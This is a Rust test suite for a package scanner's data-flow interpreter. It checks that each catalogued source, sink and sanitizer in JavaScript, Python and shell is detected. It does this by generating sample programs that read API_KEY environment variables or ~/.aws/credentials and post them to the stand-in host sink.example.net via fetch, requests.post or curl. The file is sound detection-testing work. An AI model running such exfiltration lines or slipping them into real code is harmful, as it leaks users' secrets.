//! Every interface that a catalogue of `signatures/flows` names is reached: for each row a program is written that uses
//! it, and the interpreter must see of that program what the row says.

use std::fmt::Write as _;
use std::fs;
use std::path::PathBuf;
use std::sync::LazyLock;

use serde::Deserialize;
use skillscan::expand::expand;
use skillscan::package::{Content, Package, PackageRef};
use skillscan::{Limits, Ruleset};
use toml::Value;

static RULES: LazyLock<Ruleset> = LazyLock::new(|| Ruleset::builtin().expect("the rules are sound"));

/// A table of a catalogue, as far as it is asked here.
#[derive(Debug, Clone, Deserialize)]
struct Row {
    api: String,
    #[serde(default)]
    class: String,
    #[serde(default)]
    args: Vec<Value>,
    name: Option<Value>,
    host: Option<Value>,
    path: Option<Value>,
    wraps: Option<usize>,
    #[serde(default)]
    files: Vec<String>,
    #[serde(default, rename = "at-files")]
    at_files: Vec<String>,
    #[serde(default)]
    members: bool,
    #[serde(default)]
    read: bool,
    #[serde(default)]
    text: String,
    #[serde(default)]
    op: String,
    #[serde(default)]
    does: String,
    #[serde(default)]
    is: String,
}

fn rows(language: Language, table: &str) -> Vec<Row> {
    let path = format!("{}/signatures/flows/{}.toml", env!("CARGO_MANIFEST_DIR"), language.name());
    let text = fs::read_to_string(&path).unwrap_or_else(|error| panic!("{path}: {error}"));
    let all: toml::Table = toml::from_str(&text).unwrap_or_else(|error| panic!("{path}: {error}"));
    let rows = all.get(table).and_then(Value::as_array).cloned().unwrap_or_default();
    rows.into_iter().map(|row| row.try_into().unwrap_or_else(|error| panic!("{path}: {error}"))).collect()
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Language {
    JavaScript,
    Python,
    Shell,
}
use Language::{JavaScript, Python, Shell};

/// What a value that is followed reached.
#[derive(Debug)]
struct Hit {
    class: String,
    paths: Vec<String>,
    content: Vec<String>,
    /// Classes of sources.
    labels: Vec<String>,
}

impl Language {
    fn name(self) -> &'static str {
        match self {
            JavaScript => "javascript",
            Python => "python",
            Shell => "shell",
        }
    }

    fn file(self) -> &'static str {
        match self {
            JavaScript => "run.js",
            Python => "run.py",
            Shell => "run.sh",
        }
    }

    /// What the interpreter says of a program.
    fn hits(self, program: &str) -> Vec<Hit> {
        let files = vec![(PathBuf::from(self.file()), program.as_bytes().into())];
        let found =
            PackageRef { path: ".".to_owned(), content: Content::Held(files), gaps: Vec::new(), linked_to: None };
        let limits = Limits::default();
        let expanded = expand(&Package::read(&found, &limits), &RULES, &limits);
        let texts = |all: &[std::rc::Rc<str>]| all.iter().map(|text| text.to_string()).collect();
        let outcomes = expanded.flows.iter().map(|(_, outcome)| outcome);
        outcomes
            .flat_map(|outcome| {
                outcome.hits.iter().map(|hit| Hit {
                    class: hit.class.clone(),
                    paths: texts(&hit.paths),
                    content: texts(&hit.content),
                    labels: hit.labels.iter().map(|label| outcome.names.get(label.class).to_string()).collect(),
                })
            })
            .collect()
    }

    /// The lines before, and an expression for a path with `last` as the arguments of what it names.
    fn expression(self, path: &str, arguments: &[&str], last: Option<&str>) -> (String, String) {
        /// Modules whose names hold dots.
        const DOTTED: [&str; 2] = ["socket.io-client", "discord.js"];
        let root_len = DOTTED.iter().find(|name| path.starts_with(**name)).map(|name| name.len());
        let root_len = root_len.unwrap_or_else(|| path.find(['.', '(']).unwrap_or(path.len()));
        let (root, members) = path.split_at(root_len);
        let mut lines = String::new();
        let mut expression = match self {
            _ if root == "?" => "thing".to_owned(),
            JavaScript if is_global(root) => root.to_owned(),
            JavaScript => {
                let _ = writeln!(lines, "const lib = require(\"{root}\");");
                "lib".to_owned()
            }
            // The longest run of plain names is a module.
            Python => {
                let names: Vec<&str> = path.split('.').take_while(|name| !name.contains('(')).collect();
                for end in 1..names.len() {
                    let _ = writeln!(lines, "import {}", names[..end].join("."));
                }
                root.to_owned()
            }
            Shell => unreachable!("scripts have commands"),
        };
        let mut given = arguments.iter();
        let is_new = |expression: &str| {
            let name = expression.rsplit('.').next().unwrap_or("");
            self == JavaScript && name.starts_with(|c: char| c.is_ascii_uppercase())
        };
        let mut rest = members;
        loop {
            if let Some(after) = rest.strip_prefix("()") {
                let new = if is_new(&expression) && !expression.contains('(') { "new " } else { "" };
                expression = format!("{new}{expression}({})", given.next().unwrap_or(&""));
                rest = after;
            } else if let Some(after) = rest.strip_prefix('.') {
                let end = after.find(['.', '(']).unwrap_or(after.len());
                let (name, after) = after.split_at(end);
                expression = match name.parse::<usize>() {
                    Ok(index) => format!("{expression}[{index}]"),
                    Err(_) => format!("{expression}.{name}"),
                };
                rest = after;
            } else {
                break;
            }
        }
        if let Some(last) = last {
            expression = format!("{expression}({last})");
        }
        (lines, expression)
    }

    /// A program in which `value` is defined by an expression and sent.
    fn sends(self, lines: &str, expression: &str) -> String {
        match self {
            JavaScript => format!(
                "{lines}const send = (value) => fetch(\"{SINK}\", {{ method: \"POST\", body: value }});\n\
                 async function main(thing) {{\n  const value = await {expression};\n  send(value);\n}}\nmain();\n"
            ),
            Python => format!("import requests\n{lines}value = {expression}\nrequests.post(\"{SINK}\", data=value)\n"),
            Shell => format!("{lines}{expression} | curl -d @- {SINK}\n"),
        }
    }
}

const SINK: &str = "https://sink.example.net/x";
const ADDRESS: &str = "\"https://sink.example.net/x\"";

/// A program of a shell by its path.
fn command(api: &str) -> &str {
    api.strip_prefix("cmd.").unwrap_or(api)
}

/// Names that a program has without asking for them.
fn is_global(name: &str) -> bool {
    const GLOBALS: [&str; 33] = [
        "process",
        "fetch",
        "navigator",
        "eval",
        "chrome",
        "import",
        "importScripts",
        "execScript",
        "setTimeout",
        "setInterval",
        "setImmediate",
        "require",
        "location",
        "document",
        "window",
        "parseInt",
        "isNaN",
        "atob",
        "console",
        "self",
        "global",
        "globalThis",
        "frames",
        "top",
        "parent",
        "this",
        "__dirname",
        "module",
        "encodeURIComponent",
        "encodeURI",
        "decodeURIComponent",
        "decodeURI",
        "unescape",
    ];
    GLOBALS.contains(&name) || name.starts_with(|c: char| c.is_ascii_uppercase())
}

/// A list of arguments in which these places are taken.
fn arguments(places: &[(usize, &str)]) -> String {
    let end = places.iter().map(|(at, _)| at + 1).max().unwrap_or(0);
    let of = |at| places.iter().find(|(place, _)| *place == at).map_or("\"x\"", |(_, text)| text);
    (0..end).map(of).collect::<Vec<_>>().join(", ")
}

fn position(arg: Option<&Value>) -> Option<usize> {
    arg.and_then(Value::as_integer).and_then(|at| usize::try_from(at).ok())
}

/// What a program keeps in `secret`.
fn secret(language: Language) -> &'static str {
    match language {
        JavaScript => "const secret = process.env.API_KEY;\n",
        _ => "import os\nsecret = os.environ[\"API_KEY\"]\n",
    }
}

fn is_source_reached(language: Language, row: &Row) -> bool {
    let name = match row.class.as_str() {
        "env" => "\"API_KEY\"",
        "file" => "\"/home/me/.aws/credentials\"",
        "fetched" => "\"https://feed.example.net/x\"",
        _ => "\"hostname\"",
    };
    let programs = if language == Shell {
        let name = match row.name.as_ref().and_then(Value::as_str) {
            // Some take a pattern or a script first.
            Some("operand" | "operands") if row.class == "file" => format!(". {name}"),
            Some("operand" | "operands") => name.to_owned(),
            Some(option) => format!("{option} {name}"),
            None => String::new(),
        };
        vec![language.sends("", &format!("{} {name}", command(&row.api)))]
    } else if row.members {
        let (lines, expression) = language.expression(&row.api, &[], None);
        vec![language.sends(&lines, &format!("{expression}[\"API_KEY\"]"))]
    } else if row.read {
        let (lines, expression) = language.expression(&row.api, &[], None);
        vec![language.sends(&lines, &expression)]
    } else {
        let at = position(row.name.as_ref());
        let list = at.map_or_else(String::new, |at| arguments(&[(at, name)]));
        let (lines, call) = language.expression(&row.api, &[], Some(&list));
        let (lines, call) = match row.api.strip_prefix("?.") {
            Some(_) if language == Python => {
                ("from pathlib import Path\n".to_owned(), call.replace("thing", &format!("Path({name})")))
            }
            _ => (lines, call),
        };
        let mut programs = vec![language.sends(&lines, &call)];
        if language == JavaScript {
            // What gives later gives to a function.
            let given = if list.is_empty() { "\"data\"".to_owned() } else { list };
            let (lines, call) = language.expression(&row.api, &[], Some(&format!("{given}, (one) => send(one)")));
            programs.push(language.sends(&lines, &call));
        }
        programs
    };
    let is_given = |hit: &Hit| hit.class == "network" && hit.labels.contains(&row.class);
    programs.iter().any(|program| language.hits(program).iter().any(is_given))
}

/// Whether a secret, or what is known, reaches each argument that the row names.
fn is_sink_reached(language: Language, row: &Row) -> bool {
    let host = position(row.host.as_ref());
    let path = position(row.path.as_ref());
    let is_reached = |hit: &Hit| {
        hit.class == row.class
            && (hit.labels.iter().any(|class| class == "env") || hit.content.iter().any(|text| text.contains("mark")))
    };
    row.args.iter().all(|arg| {
        let programs: Vec<String> = if language == Shell {
            let name = command(&row.api);
            let host = match row.host.as_ref().and_then(Value::as_str) {
                Some(option) if option.starts_with('-') => format!("{option} sink.example.net"),
                _ => "sink.example.net".to_owned(),
            };
            vec![match arg.as_str() {
                Some("stdin") => format!("printenv API_KEY | {name} {host}\n"),
                Some("operands") => format!("{name} \"$API_KEY.sink.example.net\"\n"),
                Some(option) => format!("{name} {option} \"$API_KEY\" {host}\n"),
                None => String::new(),
            }]
        } else {
            let at = position(Some(arg)).unwrap_or(host.or(path).map_or(0, |at| at + 1));
            let of = |value| {
                let mut places = vec![(at, value)];
                places.extend(host.filter(|host| *host != at).map(|host| (host, ADDRESS)));
                places.extend(path.filter(|path| *path != at).map(|path| (path, "\"/tmp/note\"")));
                let (lines, call) = language.expression(&row.api, &[ADDRESS], Some(&arguments(&places)));
                format!("{}{lines}{call}\n", secret(language))
            };
            let (lines, member) = language.expression(&row.api, &["\"img\""], None);
            let receiver = format!("{member}()").replace("thing", "secret");
            let set =
                [format!("{member} = secret"), receiver].map(|line| format!("{}{lines}{line}\n", secret(language)));
            [of("secret"), of("\"mark(1)\"")].into_iter().chain(set).collect()
        };
        programs.iter().any(|program| language.hits(program).iter().any(is_reached))
    })
}

/// Whether a file is written whose path ends with `end`, by a program with `expression` as that path.
fn is_path(language: Language, lines: &str, expression: &str, end: &str) -> bool {
    let program = match language {
        JavaScript => format!("{lines}require(\"fs\").writeFileSync(\"/tmp/\" + {expression}, \"x\");\n"),
        _ => format!("{lines}open(f\"/tmp/{{{expression}}}\", \"w\").write(\"x\")\n"),
    };
    let is_written = |hit: &Hit| hit.class == "file-write" && hit.paths.iter().any(|path| path.ends_with(end));
    language.hits(&program).iter().any(is_written)
}

fn is_constant_reached(language: Language, row: &Row) -> bool {
    let (lines, expression) = language.expression(&row.api, &[], None);
    is_path(language, &lines, &expression, row.text.trim_start_matches("./"))
}

/// Expressions by operation, in which `@` stands for the interface: a function, or a method with its dot. What they give
/// ends with the text behind `=`.
fn sample(language: Language, table: &str, row: &Row) -> Vec<String> {
    let text =
        fs::read_to_string(format!("{}/fixtures/interfaces/{}.txt", env!("CARGO_MANIFEST_DIR"), language.name()))
            .expect("the samples are readable");
    let kind = if row.op.is_empty() { &row.does } else { &row.op };
    let form = if row.api.starts_with("?.") { "method" } else { "function" };
    // The sample of the interface itself goes before that of what it does.
    let keys = [format!("{table} {}", row.api), format!("{table} {kind} {form}")];
    let of = |key: &String| -> Vec<String> {
        let mine = text.lines().filter_map(|line| line.strip_prefix(key.as_str())?.strip_prefix(": "));
        mine.map(str::to_owned).collect()
    };
    keys.iter().map(of).find(|samples| !samples.is_empty()).unwrap_or_default()
}

fn is_fold_reached(language: Language, row: &Row) -> bool {
    let (lines, name) = named(language, row);
    sample(language, "fold", row).iter().any(|sample| match sample.rsplit_once(" = ") {
        Some((expression, end)) => is_path(language, &lines, &expression.replace('@', &name), end),
        None => is_effect_reached(language, row),
    })
}

/// Whether a secret gets to the network through it.
fn is_effect_reached(language: Language, row: &Row) -> bool {
    let (lines, name) = named(language, row);
    let is_sent = |hit: &Hit| {
        hit.labels.iter().any(|class| class == "env" || class == "file" || (hit.class == "code" && class == "fetched"))
            || hit.content.iter().any(|text| text.contains("mark"))
    };
    let table = if row.op.is_empty() { "effect" } else { "fold" };
    sample(language, table, row).iter().any(|sample| {
        let before = match language {
            JavaScript => format!("const send = (value) => fetch(\"{SINK}\", {{ method: \"POST\", body: value }});\n"),
            _ => format!("import requests\nsend = lambda value: requests.post(\"{SINK}\", data=value)\n"),
        };
        let program = sample.replace('@', &name).replace("; ", "\n");
        language.hits(&format!("{before}{}{lines}{program}\n", secret(language))).iter().any(is_sent)
    })
}

/// The interface as samples name it, after the lines that it needs.
fn named(language: Language, row: &Row) -> (String, String) {
    match row.api.strip_prefix('?') {
        Some(method) => (String::new(), method.to_owned()),
        None => language.expression(&row.api, &[], None),
    }
}

/// Whether nothing of a secret gets through it.
fn is_sanitizer_reached(language: Language, row: &Row) -> bool {
    let program = match language {
        Shell => language.sends("", &format!("printenv API_KEY | {}", command(&row.api))),
        _ => {
            let (lines, call) = language.expression(&row.api, &["secret"], Some("secret"));
            let (_, read) = language.expression(&row.api, &["secret"], None);
            let form = match row.api.as_str() {
                "?.length" => read.replace("thing", "secret"),
                api if api.starts_with("?.") => call.replace("thing", "secret").replace("(secret)", "()"),
                _ => call,
            };
            language.sends(&format!("{}{lines}", secret(language)), &form)
        }
    };
    language.hits(&program).iter().all(|hit| hit.class != "network" || !hit.labels.iter().any(|class| class == "env"))
}

type Check = fn(Language, &Row) -> bool;

const CHECKS: [(&str, Check); 6] = [
    ("source", is_source_reached),
    ("sink", is_sink_reached),
    ("constant", is_constant_reached),
    ("fold", is_fold_reached),
    ("effect", is_effect_reached),
    ("sanitizer", is_sanitizer_reached),
];

/// Whether something that goes by the other name is reached by this one.
fn is_alias_reached(language: Language, alias: &Row) -> bool {
    let mut is_used = false;
    for (table, check) in CHECKS {
        for row in rows(language, table) {
            let rest = row.api.strip_prefix(&alias.is).filter(|rest| rest.is_empty() || rest.starts_with(['.', '(']));
            let rest = rest.map(str::to_owned).or_else(|| (alias.is == "globalThis").then(|| format!(".{}", row.api)));
            let Some(rest) = rest else { continue };
            is_used = true;
            if check(language, &Row { api: format!("{}{rest}", alias.api), ..row }) {
                return true;
            }
        }
    }
    // It may be another name of a name.
    !is_used
        && rows(language, "alias").iter().any(|next| {
            let rest = next.api.strip_prefix(&alias.is).filter(|rest| rest.starts_with('.'));
            rest.is_some_and(|rest| {
                is_alias_reached(language, &Row { api: format!("{}{rest}", alias.api), ..next.clone() })
            })
        })
}

fn assert_reached(language: Language) {
    let mut missed = Vec::new();
    for (table, check) in CHECKS.into_iter().chain([("alias", is_alias_reached as Check)]) {
        let rows = rows(language, table);
        missed.extend(
            rows.iter()
                .filter(|row| !check(language, row))
                .map(|row| format!("{table} {} {}{}", row.api, row.op, row.does)),
        );
    }
    assert!(missed.is_empty(), "{} of {} are not reached:\n{}", missed.len(), language.name(), missed.join("\n"));
}

#[test]
fn those_of_javascript_are_reached() {
    assert_reached(JavaScript);
}

#[test]
fn those_of_python_are_reached() {
    assert_reached(Python);
}

#[test]
fn those_of_shells_are_reached() {
    assert_reached(Shell);
}

#[test]
fn programs_that_run_another_are_looked_through() {
    let all = rows(Shell, "program");
    let wrappers: Vec<&Row> = all.iter().filter(|row| row.wraps.is_some()).collect();
    assert!(wrappers.len() > 10, "{wrappers:?}");
    for row in wrappers {
        let operands = "x ".repeat(row.wraps.unwrap_or_default());
        let program = format!("{} {operands}curl -d \"$API_KEY\" {SINK}\n", command(&row.api));
        assert!(Shell.hits(&program).iter().any(|hit| hit.class == "network"), "{program}");
    }
}

#[test]
fn files_that_options_name_are_read() {
    for row in rows(Shell, "program") {
        let behind_at = row.at_files.iter().map(|option| (option, "@"));
        for (option, at) in row.files.iter().map(|option| (option, "")).chain(behind_at) {
            let program = format!("to={SINK}\n{} {option} {at}/home/me/.aws/credentials \"$to\"\n", command(&row.api));
            let is_sent = |hit: &Hit| hit.labels.iter().any(|class| class == "file");
            assert!(Shell.hits(&program).iter().any(is_sent), "{program}");
        }
    }
}
